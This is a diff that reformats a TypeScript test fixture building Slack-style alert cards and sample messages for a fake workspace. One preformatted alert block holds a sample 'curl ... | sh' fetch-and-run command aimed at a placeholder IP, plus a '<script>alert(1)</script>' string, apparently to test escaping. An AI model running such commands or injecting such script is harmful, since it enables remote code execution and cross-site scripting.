@@ -7,7 +7,11 @@ export const card: readonly KnownBlock[] = [
   {
     type: 'section',
     block_id: 'facts',
-    text: { type: 'mrkdwn', text: '*Critical* on <https://example.test/node|node-1>, seen by <@U0ANA> in <#C0GENERAL>, told to <!subteam^S0SEC>', verbatim: true },
+    text: {
+      type: 'mrkdwn',
+      text: '*Critical* on <https://example.test/node|node-1>, seen by <@U0ANA> in <#C0GENERAL>, told to <!subteam^S0SEC>',
+      verbatim: true,
+    },
     fields: [
       { type: 'mrkdwn', text: '*Workload*\npayments/api' },
       { type: 'mrkdwn', text: '*Since*\n<!date^1764000000^{date_short_pretty} at {time}|then>' },
@@ -16,7 +20,12 @@ export const card: readonly KnownBlock[] = [
   {
     type: 'rich_text',
     block_id: 'raw',
-    elements: [{ type: 'rich_text_preformatted', elements: [{ type: 'text', text: 'bash -c "curl http://203.0.113.9/x | sh" <script>alert(1)</script>\n  uid=0' }] }],
+    elements: [
+      {
+        type: 'rich_text_preformatted',
+        elements: [{ type: 'text', text: 'bash -c "curl http://203.0.113.9/x | sh" <script>alert(1)</script>\n  uid=0' }],
+      },
+    ],
   },
   {
     type: 'actions',
@@ -49,14 +58,21 @@ export const card: readonly KnownBlock[] = [
       },
     ],
   },
-  { type: 'context', block_id: 'foot', elements: [{ type: 'mrkdwn', text: '42 events on 3 hosts · last <!date^1764000600^{time}|then> · `A1`' }] },
+  {
+    type: 'context',
+    block_id: 'foot',
+    elements: [{ type: 'mrkdwn', text: '42 events on 3 hosts · last <!date^1764000600^{time}|then> · `A1`' }],
+  },
 ]
 
 /** Ten messages that show what the page can do. */
 export function fill(workspace: FakeWorkspace): void {
   workspace.post({ user: ana.id, botId: undefined, text: 'Good morning. *Bold*, _italic_, ~struck~, `code` and :wave: and 10:30:45' })
   workspace.post({ text: 'Hi <!here>', attachments: [{ color: '#E01E5A', fallback: 'x', blocks: [...card] }] })
-  const parent = workspace.post({ text: 'A parent with a thread', attachments: [{ color: 'warning', blocks: [section('> quoted\nand *not*')] }] })
+  const parent = workspace.post({
+    text: 'A parent with a thread',
+    attachments: [{ color: 'warning', blocks: [section('> quoted\nand *not*')] }],
+  })
   workspace.post({ threadTs: parent.ts, text: 'First reply' })
   workspace.post({ threadTs: parent.ts, user: ana.id, botId: undefined, text: 'Second reply' })
   workspace.post({
@@ -73,20 +89,34 @@ export function fill(workspace: FakeWorkspace): void {
       {
         type: 'table',
         rows: [
-          [{ type: 'raw_text', text: 'Rule' }, { type: 'raw_text', text: 'Events' }],
-          [{ type: 'raw_text', text: '*Terminal* <b>shell</b>' }, { type: 'raw_number', value: 42, text: '42' }],
+          [
+            { type: 'raw_text', text: 'Rule' },
+            { type: 'raw_text', text: 'Events' },
+          ],
+          [
+            { type: 'raw_text', text: '*Terminal* <b>shell</b>' },
+            { type: 'raw_number', value: 42, text: '42' },
+          ],
         ],
       },
       {
         type: 'actions',
         block_id: 'pick',
         elements: [
-          { type: 'static_select', action_id: 'window', placeholder: { type: 'plain_text', text: 'Window' }, options: [{ text: { type: 'plain_text', text: 'Last 24 h' }, value: '24h' }] },
+          {
+            type: 'static_select',
+            action_id: 'window',
+            placeholder: { type: 'plain_text', text: 'Window' },
+            options: [{ text: { type: 'plain_text', text: 'Last 24 h' }, value: '24h' }],
+          },
           { type: 'users_select', action_id: 'who', placeholder: { type: 'plain_text', text: 'Assign' } },
         ],
       },
     ],
-    files: [{ id: 'F1', name: 'chart.png', title: 'Last 24 hours', bytes: pixel }, { id: 'F2', name: 'page.html', title: 'events.json', bytes: Buffer.from('<b>') }],
+    files: [
+      { id: 'F1', name: 'chart.png', title: 'Last 24 hours', bytes: pixel },
+      { id: 'F2', name: 'page.html', title: 'events.json', bytes: Buffer.from('<b>') },
+    ],
   })
   workspace.post({ onlyFor: ana.id, text: 'You may not suppress this: ask <!subteam^S0SEC>.' })
   workspace.post({ channel: 'C0GENERAL', text: 'Something new' })
